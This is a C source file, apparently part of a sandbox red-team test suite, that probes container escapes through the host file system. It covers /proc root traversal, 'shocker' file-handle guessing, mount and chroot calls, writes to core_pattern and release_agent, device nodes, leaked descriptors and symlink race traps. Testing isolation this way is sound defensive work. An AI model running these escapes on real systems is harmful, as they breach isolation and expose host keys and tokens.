/*
 * Family 4: the host's file system: by path, by handle, by mount, by device, by an inherited descriptor, and
 * by leaving traps for whatever the host does with the session's files.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include "redteam/attacks/inside.h"

#ifndef SYS_open_tree
#define SYS_open_tree  428
#define SYS_move_mount 429
#define SYS_fsopen     430
#define SYS_fsconfig   431
#define SYS_fsmount    432
#define SYS_fspick     433
#endif
#ifndef SYS_mount_setattr
#define SYS_mount_setattr 442
#endif
enum { OPEN_TREE_CLONE_FLAG = 1, FSCONFIG_CREATE = 6, HANDLE_MAX = 64, INODES = 64 };

/* ---- by path ---- */

static void paths(const struct order *o)
{
    static const char *const prefixes[] = {"",
                                           "/proc/1/root",
                                           "/proc/self/root/..",
                                           "/proc/1/cwd/../../../../..",
                                           "/proc/self/cwd/../../../../..",
                                           "/workspace/../../../../..",
                                           "/proc/self/task/1/root",
                                           "/proc/thread-self/root/../..",
                                           "/dev/fd/../../../root",
                                           "/dev/../../..",
                                           "/tmp/../../../.."};
    static const char *const wanted[] = {"host_file", "private", "registry", "master_key", "token"};
    char path[512], name[64];

    for (size_t w = 0; w < sizeof(wanted) / sizeof(*wanted); w++)
        for (size_t i = 0; i < sizeof(prefixes) / sizeof(*prefixes); i++) {
            (void)snprintf(path, sizeof(path), "%s%s", prefixes[i], order_text(o, wanted[w]));
            (void)snprintf(name, sizeof(name), "%s-%zu", w == 0 ? "file" : "other", i);
            if (*order_text(o, wanted[w]) && try_read(name, path))
                claim("read the host's %s", path);
        }
}

static void processes(const struct order *o)
{
    static const char *const doors[] = {"root", "cwd", "exe"};
    const char *file = order_text(o, "host_file");
    DIR *dir = opendir("/proc");
    const struct dirent *d;
    unsigned tried = 0;
    char path[512], target[512];

    while (dir && (d = readdir(dir))) {
        if (strspn(d->d_name, "0123456789") != strlen(d->d_name))
            continue;
        for (size_t i = 0; i < 3; i++) {
            ssize_t n;
            tried++;
            (void)snprintf(path, sizeof(path), "/proc/%s/%s", d->d_name, doors[i]);
            n = readlink(path, target, sizeof(target) - 1);
            if (n > 0) {
                target[n] = 0;
                fact("link", "%s -> %s", path, target);
            }
            (void)snprintf(path, sizeof(path), "/proc/%s/%s%s", d->d_name, doors[i], file);
            if (try_read("through", path))
                claim("read the host's file through %s", path);
        }
    }
    if (dir)
        (void)closedir(dir);
    stepf("doors", (long)tried, "%u links of processes", tried);
}

/* ---- by handle ---- */

/* "shocker": file handles are made of an inode's number, so the root's can be guessed. */
static void handles(const struct order *o)
{
    static const char *const mounts[] = {"/", "/workspace", "/etc", "/tmp", "/dev/null", "/bin"};
    union {
        struct file_handle handle;
        char room[sizeof(struct file_handle) + HANDLE_MAX];
    } h;
    int id, fd, opened = 0, error = 0;

    (void)o;
    for (size_t i = 0; i < sizeof(mounts) / sizeof(*mounts); i++) {
        int at = open(mounts[i], O_RDONLY | O_CLOEXEC);
        memset(&h, 0, sizeof(h));
        h.handle.handle_bytes = HANDLE_MAX;
        step("name", syscall(SYS_name_to_handle_at, AT_FDCWD, mounts[i], &h.handle, &id, 0));
        for (unsigned inode = 0; inode < INODES; inode++) {
            uint32_t parts[2] = {inode, 0};
            h.handle.handle_bytes = sizeof(parts);
            h.handle.handle_type = 1; /* FILEID_INO32_GEN */
            memcpy(h.handle.f_handle, parts, sizeof(parts));
            fd = (int)syscall(SYS_open_by_handle_at, at, &h.handle, O_RDONLY);
            opened += fd >= 0;
            error = fd < 0 ? errno : 0;
            (void)close(fd);
        }
        (void)close(at);
    }
    errno = error;
    stepf("open", opened ? opened : -1, "%d inodes opened by number", opened);
    if (opened)
        claim("%d files were opened by their inode number", opened);
}

/* ---- by mount ---- */

static void tried(const char *name, long rc)
{
    step(name, rc);
    if (rc >= 0)
        claim("the call '%s' was allowed", name);
}

static void mounts(const struct order *o)
{
    struct {
        uint64_t set, clear, propagation, userns;
    } attr = {.clear = 1 /* MOUNT_ATTR_RDONLY */};
    int fd;

    (void)o;
    (void)mkdir("/tmp/m", 0777);
    tried("tmpfs", mount("tmpfs", "/tmp/m", "tmpfs", 0, NULL));
    tried("proc", mount("proc", "/tmp/m", "proc", 0, NULL));
    tried("sysfs", mount("sysfs", "/tmp/m", "sysfs", 0, NULL));
    tried("cgroup2", mount("cgroup2", "/tmp/m", "cgroup2", 0, NULL));
    tried("overlay", mount("overlay", "/tmp/m", "overlay", 0, "lowerdir=/etc,upperdir=/tmp,workdir=/tmp/m"));
    tried("bind", mount("/proc/1/root", "/tmp/m", NULL, MS_BIND | MS_REC, NULL));
    tried("remount-rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
    tried("remount-usr", mount(NULL, "/bin", NULL, MS_REMOUNT | MS_BIND, NULL));
    tried("share", mount(NULL, "/", NULL, MS_REC | MS_SHARED, NULL));
    tried("move", mount("/proc", "/tmp/m", NULL, MS_MOVE, NULL));
    tried("unmask", umount2("/proc/kcore", MNT_DETACH));
    tried("umount-root", umount2("/", MNT_DETACH));
    tried("umount-workspace", umount2("/workspace", MNT_DETACH));
    tried("pivot-root", syscall(SYS_pivot_root, "/workspace", "/workspace"));
    tried("chroot", chroot("/workspace"));
    fd = (int)syscall(SYS_open_tree, AT_FDCWD, "/", OPEN_TREE_CLONE_FLAG);
    tried("open-tree", fd);
    tried("move-mount", syscall(SYS_move_mount, fd, "", AT_FDCWD, "/tmp/m", 4));
    fd = (int)syscall(SYS_fsopen, "tmpfs", 0);
    tried("fsopen", fd);
    tried("fsconfig", syscall(SYS_fsconfig, fd, FSCONFIG_CREATE, NULL, NULL, 0));
    tried("fsmount", syscall(SYS_fsmount, fd, 0, 0));
    tried("fspick", syscall(SYS_fspick, AT_FDCWD, "/", 0));
    tried("setattr", syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, &attr, sizeof(attr)));
}

/* ---- what is read-only ---- */

static void writes(const struct order *o)
{
    static const char *const dirs[] = {"/",          "/bin",          "/usr",  "/etc",     "/lib",
                                       "/run",       "/run/ironclaw", "/dev",  "/dev/pts", "/sbin",
                                       "/var",       "/root",         "/home", "/opt",     "/proc/sys/kernel",
                                       "/proc/self", "/proc/1"};
    char name[32], path[128];

    (void)o;
    for (size_t i = 0; i < sizeof(dirs) / sizeof(*dirs); i++) {
        int fd;
        (void)snprintf(name, sizeof(name), "create-%zu", i);
        (void)snprintf(path, sizeof(path), "%s/planted", dirs[i]);
        fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0777);
        stepf(name, fd, "%s", path);
        if (fd >= 0)
            claim("created %s", path);
        (void)close(fd);
    }
    tried("overwrite", open("/bin/ironclaw-attacker", O_WRONLY | O_CLOEXEC));
    tried("chmod", chmod("/bin/busybox", 0777));
    tried("unlink", unlink("/bin/busybox"));
    tried("port-unlink", unlink("/run/ironclaw/queue.sock"));
    tried("port-rename", rename("/run/ironclaw/model.sock", "/tmp/model.sock"));
    tried("exe", open("/proc/1/exe", O_WRONLY | O_CLOEXEC));
    tried("own-exe", open("/proc/self/exe", O_WRONLY | O_CLOEXEC));
}

/* Kernel settings and the masked parts of /proc. */
static void proc_files(const struct order *o)
{
    static const char *const written[] = {"/proc/sys/kernel/core_pattern",
                                          "/proc/sys/kernel/modprobe",
                                          "/proc/sys/kernel/hostname",
                                          "/proc/sys/vm/drop_caches",
                                          "/proc/sys/net/ipv4/ip_forward",
                                          "/proc/sysrq-trigger",
                                          "/proc/sys/fs/binfmt_misc/register",
                                          "/proc/1/oom_score_adj",
                                          "/proc/self/uid_map",
                                          "/proc/self/setgroups",
                                          "/proc/irq/default_smp_affinity",
                                          "/proc/sys/kernel/ns_last_pid"};
    static const char *const read[] = {"/proc/kcore",       "/proc/kallsyms",    "/proc/keys",
                                       "/proc/timer_list",  "/proc/sched_debug", "/proc/interrupts",
                                       "/proc/modules",     "/proc/kpagecount",  "/proc/kpageflags",
                                       "/proc/vmallocinfo", "/proc/kmsg",        "/proc/latency_stats",
                                       "/proc/scsi/scsi",   "/proc/acpi/wakeup"};
    char name[32], buf[256];

    (void)o;
    for (size_t i = 0; i < sizeof(written) / sizeof(*written); i++) {
        int fd = open(written[i], O_WRONLY | O_CLOEXEC);
        bool maps = strstr(written[i], "/proc/self/") != NULL;
        /* A process may open its own uid map; what counts is whether it takes a second one. Of the others
         * opening alone is the test: writing would hurt the host if it were allowed. */
        long rc = maps && fd >= 0 ? write(fd, "0 0 1\n", 6) : fd;
        (void)snprintf(name, sizeof(name), "write-%zu", i);
        stepf(name, rc, "%s", written[i]);
        if (rc >= 0)
            claim("%s can be written", written[i]);
        (void)close(fd);
    }
    for (size_t i = 0; i < sizeof(read) / sizeof(*read); i++) {
        ssize_t n = slurp(read[i], buf, sizeof(buf));
        (void)snprintf(name, sizeof(name), "read-%zu", i);
        stepf(name, n, "%s", read[i]);
        if (n > 0)
            claim("read %s", read[i]);
    }
}

static void sys_files(const struct order *o)
{
    static const char *const places[] = {"/sys",
                                         "/sys/kernel/debug",
                                         "/sys/kernel/tracing",
                                         "/sys/fs/cgroup",
                                         "/sys/firmware",
                                         "/sys/kernel/security",
                                         "/sys/class/net",
                                         "/sys/devices/virtual/dmi/id/product_uuid",
                                         "/sys/kernel/uevent_helper",
                                         "/sys/fs/bpf",
                                         "/sys/power/state",
                                         "/boot",
                                         "/lib/modules"};
    static const char *const knobs[] = {"/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs",
                                        "/sys/fs/cgroup/memory.max", "/sys/kernel/uevent_helper",
                                        "/sys/power/state"};
    char name[32];

    (void)o;
    for (size_t i = 0; i < sizeof(places) / sizeof(*places); i++) {
        DIR *d = opendir(places[i]);
        int fd = d ? 0 : open(places[i], O_RDONLY | O_CLOEXEC);
        unsigned n = 0;
        while (d && readdir(d))
            n++;
        (void)snprintf(name, sizeof(name), "look-%zu", i);
        stepf(name, fd, "%s (%u entries)", places[i], n);
        if (n > 2)
            fact("entries", "%s %u", places[i], n);
        if (d)
            (void)closedir(d);
        else
            (void)close(fd);
    }
    for (size_t i = 0; i < sizeof(knobs) / sizeof(*knobs); i++) {
        int fd = open(knobs[i], O_WRONLY | O_CLOEXEC);
        (void)snprintf(name, sizeof(name), "knob-%zu", i);
        stepf(name, fd, "%s", knobs[i]);
        if (fd >= 0)
            claim("opened %s for writing", knobs[i]);
        (void)close(fd);
    }
}

/* ---- devices and descriptors ---- */

static void devices(const struct order *o)
{
    static const struct {
        const char *name;
        mode_t type;
        unsigned major, minor;
    } nodes[] = {{"mem", S_IFCHR, 1, 1},    {"kmsg", S_IFCHR, 1, 11},   {"sda", S_IFBLK, 8, 0},
                 {"vda", S_IFBLK, 253, 0},  {"vdb", S_IFBLK, 254, 0},   {"loop", S_IFBLK, 7, 0},
                 {"tun", S_IFCHR, 10, 200}, {"fuse", S_IFCHR, 10, 229}, {"vsock", S_IFCHR, 10, 258}};
    static const char *const dirs[] = {"/tmp", "/workspace", "/dev/shm", "/dev"};
    static const char *const existing[] = {"/dev/mem",     "/dev/kmsg",         "/dev/sda",
                                           "/dev/vda",     "/dev/kvm",          "/dev/fuse",
                                           "/dev/net/tun", "/dev/loop-control", "/dev/port",
                                           "/dev/console", "/dev/userfaultfd",  "/dev/dri/card0"};
    char path[128], name[32];
    int opened = 0;

    (void)o;
    for (size_t d = 0; d < sizeof(dirs) / sizeof(*dirs); d++)
        for (size_t i = 0; i < sizeof(nodes) / sizeof(*nodes); i++) {
            long rc;
            int fd;
            (void)snprintf(path, sizeof(path), "%s/node-%s", dirs[d], nodes[i].name);
            rc = mknod(path, nodes[i].type | 0666, makedev(nodes[i].major, nodes[i].minor));
            (void)snprintf(name, sizeof(name), "mknod-%zu", d);
            stepf(name, rc, "%s", path);
            fd = rc == 0 ? open(path, O_RDWR | O_CLOEXEC) : -1;
            opened += fd >= 0;
            (void)close(fd);
        }
    for (size_t i = 0; i < sizeof(existing) / sizeof(*existing); i++) {
        int fd = open(existing[i], O_RDWR | O_CLOEXEC | O_NONBLOCK);
        (void)snprintf(name, sizeof(name), "open-%zu", i);
        stepf(name, fd, "%s", existing[i]);
        opened += fd >= 0;
        (void)close(fd);
    }
    if (opened)
        claim("%d devices could be opened", opened);
}

/* Descriptors that came with the program: one that leads to a directory or a disk is a way out. */
static void descriptors(const struct order *o)
{
    const char *file = order_text(o, "host_file");
    unsigned seen = 0, bad = 0;

    for (int fd = 0; fd < 1024; fd++) {
        struct stat st;
        char link[64], target[256] = "", path[512];
        int out;
        ssize_t n;
        if (fstat(fd, &st) < 0)
            continue;
        seen++;
        (void)snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
        n = readlink(link, target, sizeof(target) - 1);
        target[n > 0 ? n : 0] = 0;
        fact("descriptor", "%d mode %o %s", fd, (unsigned)st.st_mode, target);
        if (S_ISDIR(st.st_mode) || S_ISBLK(st.st_mode)) {
            bad++;
            claim("descriptor %d is a %s", fd, S_ISDIR(st.st_mode) ? "directory" : "disk");
        }
        (void)snprintf(path, sizeof(path), "../../../../..%s", file);
        out = openat(fd, path, O_RDONLY | O_CLOEXEC);
        if (out >= 0)
            claim("opened the host's file from descriptor %d", fd);
        (void)close(out);
    }
    stepf("list", (long)seen, "%u descriptors, %u of them doors", seen, bad);
}

/* ---- traps for the host ---- */

/* What the host will meet when it removes, measures or mounts this workspace. */
static void traps(const struct order *o)
{
    const char *dir = order_text(o, "host_dir");
    char name[300];
    unsigned made = 0, deep = 0;
    int fd;

    made += symlink(dir, "/workspace/link-to-directory") == 0;
    made += symlink("/", "/workspace/link-to-root") == 0;
    made += symlink("../../../../../../../../..", "/workspace/link-up") == 0;
    made += symlink(order_text(o, "host_file"), "/workspace/link-to-file") == 0;
    made += link("/proc/1/root", "/workspace/hard") == 0;
    made += mkfifo("/workspace/pipe", 0666) == 0;
    made += mkdir("/workspace/closed", 0700) == 0;
    fd = open("/workspace/closed/file", O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
    (void)close(fd);
    made += chmod("/workspace/closed", 0) == 0;
    made += symlink(dir, "/workspace/closed-link") == 0;
    memset(name, 'n', 255);
    name[255] = 0;
    if (chdir("/workspace") == 0) {
        made += mkdir(name, 0777) == 0;
        made += mkdir("name with\nnewline and \033[31mcolour", 0777) == 0;
        /* Deeper than any path may be long. */
        memset(name, 'd', 200);
        name[200] = 0;
        while (deep < 40 && mkdir(name, 0777) == 0 && chdir(name) == 0)
            deep++;
        (void)symlink(dir, "link-at-the-bottom");
    }
    stepf("traps", (long)made, "%u traps, %u directories deep", made, deep);
}

/* Swaps a directory and a link to the host's as fast as it can, for as long as it lives: a host that walks
 * the workspace by name while it runs is led astray. */
static void races(const struct order *o)
{
    const char *dir = order_text(o, "host_dir");
    unsigned long swaps = 0;
    uint64_t until = now_ms() + 700;

    (void)mkdir("/workspace/swap", 0777);
    (void)symlink(dir, "/workspace/swap-link");
    while (now_ms() < until) {
        if (syscall(SYS_renameat2, AT_FDCWD, "/workspace/swap", AT_FDCWD, "/workspace/swap-link", 2U) == 0) {
            swaps++;
            continue;
        }
        swaps += rename("/workspace/swap", "/workspace/swap-2") == 0;
        swaps += rename("/workspace/swap-link", "/workspace/swap") == 0;
        swaps += rename("/workspace/swap", "/workspace/swap-link") == 0;
        swaps += rename("/workspace/swap-2", "/workspace/swap") == 0;
    }
    stepf("swaps", (long)swaps, "%lu times", swaps);
}

const struct inside_attack inside_hostfs[] = {
    {"fs.paths", paths},   {"fs.processes", processes}, {"fs.handles", handles},
    {"fs.mounts", mounts}, {"fs.read-only", writes},    {"fs.proc", proc_files},
    {"fs.sys", sys_files}, {"fs.devices", devices},     {"fs.descriptors", descriptors},
    {"fs.traps", traps},   {"fs.races", races},         {NULL, NULL},
};
